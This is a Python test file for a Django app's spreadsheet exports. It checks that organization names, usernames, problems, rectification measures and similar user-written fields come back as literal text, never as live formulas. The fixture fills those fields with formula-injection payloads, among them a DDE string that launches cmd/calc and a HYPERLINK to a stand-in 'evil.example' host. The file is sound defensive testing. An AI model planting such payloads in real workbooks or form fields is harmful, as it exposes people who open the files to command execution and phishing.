"""Guard (issue 12): no user text becomes a formula in any workbook the app produces. Every
workbook is downloaded through its page with hostile text in every user-written field that
reaches it (organization and people names, usernames, criteria, categories, grade labels,
problems, 整改措施, 责任人, adjustment reasons); each must come back as that literal text
(type "s", quote-prefixed) and no sheet may hold a single <f> element — the app writes none."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import get_resolver, reverse
from openpyxl import load_workbook

from branches.downloads import FORMULA_TRIGGERS
from branches.models import User
from branches.roster import MEMBER_SHEET, ORGANIZATION_SHEET
from jobs.models import Job
from reviews.models import Criterion, Problem, ProblemCategory, RectificationItem, Result, ResultSettings
from tests.branches.roster_helpers import roster_bytes
from tests.reviews.rectification.scenes import build_approved, build_published


def hostile(tag, start="="):
    """A payload that is a live formula (or DDE call) when a spreadsheet takes it as typed."""
    payloads = {
        "=": f'=HYPERLINK("https:evil.example?{tag}","点我")',
        "+": f"+{tag}+cmd|' /C calc'!A0",
        "-": f"-2+3+{tag}",
        "@": f"@SUM(1+1)*{tag}",
        "\t": f"\t=1+1+{tag}",
        "\r": f"\r=1+1+{tag}",
    }
    return payloads[start]


@pytest.fixture
def hostile_world(world):
    w = build_approved(build_published(world))
    starts = iter(["=", "+", "-", "@", "\t", "\r"] * 20)

    def payload(tag):
        return hostile(tag, next(starts))

    for org in [w.committee, w.branch_a, w.branch_b]:
        org.name = payload(f"org{org.pk}")
        org.save(update_fields=["name"])
    for user in User.objects.all():
        user.name = payload(f"user{user.pk}")[:50]
        user.save(update_fields=["name"])
    for criterion in Criterion.objects.filter(cycle=w.cycle):
        criterion.name = payload(f"criterion{criterion.pk}")
        criterion.save(update_fields=["name"])
    w.criterion_names = list(Criterion.objects.filter(cycle=w.cycle).order_by("order").values_list("name", flat=True))
    for category in ProblemCategory.objects.all():
        category.name = f"=C{category.pk}&\"类别\"" if category.pk % 2 else f"-{category.pk}+1"
        category.save(update_fields=["name"])
    ResultSettings.objects.filter(cycle=w.cycle).update(label_excellent="=1+1", label_good="+1", label_fair="-1", label_poor="@1")
    for problem in Problem.objects.all():
        problem.text = payload(f"problem{problem.pk}")
        problem.save(update_fields=["text"])
    for item in RectificationItem.objects.all():
        item.text = payload(f"item{item.pk}")
        item.measures = hostile(f"measures{item.pk}", "=")
        item.owner = payload(f"owner{item.pk}")
        item.save(update_fields=["text", "measures", "owner"])
    Result.objects.filter(report=w.report_a).update(override_reason=hostile("reason", "="))
    return w


def literal_roster(organizations, members):
    """A roster file whose cells hold the hostile texts as text (as a user typing them with a
    leading apostrophe would)."""
    workbook = load_workbook(io.BytesIO(roster_bytes()))
    for title, rows in [(ORGANIZATION_SHEET, organizations), (MEMBER_SHEET, members)]:
        for row in rows:
            workbook[title].append(list(row))
            for cell in workbook[title][workbook[title].max_row]:
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def workbooks(client, w):
    """{name: .xlsx bytes} of every workbook the app produces, fetched through its page."""
    client.force_login(w.admin)
    found = {}
    for name, args in [
        ("reviews:summary_xlsx", [w.cycle.pk]),
        ("reviews:progress_xlsx", [w.cycle.pk]),
        ("reviews:rectification_ledger_xlsx", [w.cycle.pk]),
        ("reviews:rectification_lists_xlsx", [w.cycle.pk]),
        ("reviews:rectification_plan_lists_xlsx", [w.items_a[0].plan_id]),
        ("branches:roster_template", []),
        ("branches:roster_export", []),
    ]:
        response = client.get(reverse(name, args=args))
        assert response.status_code == 200, name
        found[name] = response.content
    roster = literal_roster(
        [("=1+2支部", "党支部", w.committee.name, "@SUM(1)*2", "13900000001", "-2+3")],
        [("=1+2支部", "+1+cmd|' /C calc'!A0", "13900000002", "+4-5")],
    )
    preview = client.post(reverse("branches:roster_preview"), {"file": SimpleUploadedFile("名册.xlsx", roster)})
    assert preview.context["plan"].errors == []
    client.post(reverse("jobs:roster_apply"), {"checksum": preview.context["checksum"]})
    job = Job.objects.get(kind=Job.Kind.ROSTER)  # small: done in the request
    response = client.get(reverse("jobs:roster_passwords_download", args=[job.pk]))
    assert response.status_code == 200
    found["jobs:roster_passwords_download"] = response.content
    return found


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")}


def test_no_user_text_becomes_a_formula_in_any_workbook(client, hostile_world):
    w = hostile_world
    produced = workbooks(client, w)
    literal = {}
    for name, content in produced.items():
        for part, xml in sheet_xml(content).items():
            assert not re.search(r"<f[\s>/]", xml), f"{name} {part} holds a formula"
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate, cell.value)
                        literal.setdefault(name, set()).add(cell.value)
    for target in [w.branch_a, w.branch_b, w.committee, w.secretary_a, w.secretary_b, w.reviewer, *w.items_a]:
        target.refresh_from_db()
    expected = {
        "reviews:summary_xlsx": [w.branch_a.name, w.secretary_a.name, "=1+1", w.criterion_names[0]],
        "reviews:progress_xlsx": [w.branch_b.name, w.secretary_b.name],
        "reviews:rectification_ledger_xlsx": [w.items_a[0].text, w.items_a[0].measures, w.items_a[0].owner, w.committee.name],
        "reviews:rectification_lists_xlsx": [w.items_a[0].text, w.items_a[0].measures, w.items_a[0].owner, w.branch_a.name],
        "reviews:rectification_plan_lists_xlsx": [w.items_a[0].text, w.items_a[0].measures, w.items_a[0].owner, w.secretary_a.name],
        "branches:roster_export": [w.branch_a.name, w.committee.name, w.reviewer.name],
        "jobs:roster_passwords_download": ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)*2", "+4-5"],
    }
    for name, values in expected.items():
        for value in values:
            assert value.startswith(FORMULA_TRIGGERS)
            assert any(value in text for text in literal.get(name, ())), (name, value)


def test_every_workbook_of_the_app_is_covered():
    """A new workbook must be added to `workbooks` above: every URL named *xlsx* or serving the
    roster's workbooks is listed, and every module building a Workbook saves it through
    branches.downloads.workbook_bytes (which writes every str cell as text)."""
    names = set()
    for pattern in get_resolver().url_patterns:
        for namespace, resolver in [(getattr(pattern, "namespace", None), pattern)]:
            for sub in getattr(resolver, "url_patterns", []):
                if getattr(sub, "name", None) and "xlsx" in sub.name:
                    names.add(f"{namespace}:{sub.name}")
    assert names == {
        "reviews:summary_xlsx", "reviews:progress_xlsx", "reviews:rectification_ledger_xlsx",
        "reviews:rectification_lists_xlsx", "reviews:rectification_plan_lists_xlsx",
    }
    root = Path(settings.BASE_DIR)
    builders = [
        path
        for app in ["branches", "reports", "reviews", "config"]
        for path in (root / app).rglob("*.py")
        if "Workbook(" in path.read_text(encoding="utf-8")
    ]
    assert {path.relative_to(root).as_posix() for path in builders} == {
        "branches/roster/workbooks.py",
        "reviews/results/summary.py",
        "reviews/rectification/documents.py",
        "reviews/console/documents.py",
    }
    for path in builders:
        source = path.read_text(encoding="utf-8")
        assert "workbook_bytes(workbook)" in source and ".save(" not in source, path
